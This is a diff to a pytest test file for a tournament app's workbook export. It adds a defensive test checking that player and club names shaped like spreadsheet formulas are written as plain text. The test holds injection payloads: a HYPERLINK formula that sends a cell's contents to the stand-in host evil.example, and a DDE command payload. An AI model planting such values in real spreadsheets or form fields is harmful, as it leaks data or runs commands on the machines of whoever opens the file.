@@ -1,6 +1,7 @@
 """Every tournament downloads as a workbook, in the club's layout or GestioneTorneo's, and importing that
 file gives back the same standings under every formula."""
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -23,7 +24,8 @@ def played(tournament, organiser):
     regs = [RegistrationFactory(tournament=tournament, player__club=club if i % 3 else ClubFactory())
             for i in range(11)]
     regs.append(RegistrationFactory(tournament=tournament, player=PlayerFactory(club=None, nickname="Kamchatka")))
-    regs.append(RegistrationFactory(tournament=tournament, player=PlayerFactory(national_id="IT-0013")))
+    regs.append(RegistrationFactory(tournament=tournament,
+                                    player=PlayerFactory(national_id="IT-0013", created_by=tournament.organiser)))
     first = seat_round(tournament, [regs[:5], regs[5:9], regs[9:]])
     tables = list(first.tables.order_by("number"))
     report(tables[0], [(80, None, True), (40,), (30,), (0, 2), (0, 1)])
@@ -89,3 +91,25 @@ def test_the_organisers_tournament_page_links_both_downloads(played, organiser, 
     page = client.get(reverse("manage:tournament", args=[played.pk]))
     assert attr(page, "[data-download]", "href") == [reverse("manage:tournament_workbook", args=[played.pk]),
                                                       reverse("manage:tournament_workbook_gestione", args=[played.pk])]
+
+
+HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Rossi")'
+
+
+@pytest.mark.parametrize("url", ["manage:tournament_workbook", "manage:tournament_workbook_gestione"])
+def test_a_name_that_looks_like_a_formula_is_written_as_text_in_both_layouts(url, played, organiser, client):
+    """A sign-up named like a formula never becomes a live formula in the organiser's workbook."""
+    player = played.registrations.order_by("pk").first().player   # seated in both rounds
+    player.first_name, player.last_name, player.nickname = HOSTILE_NAME, "=1+1", "=A1"
+    player.save()
+    player.club.name = "=cmd|' /C calc'!A0"
+    player.club.save()
+    client.force_login(organiser)
+    content = client.get(reverse(url, args=[played.pk])).content
+    book = openpyxl.load_workbook(io.BytesIO(content))   # formulas as formulas, not their values
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert HOSTILE_NAME in {cell.value for cell in cells}
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
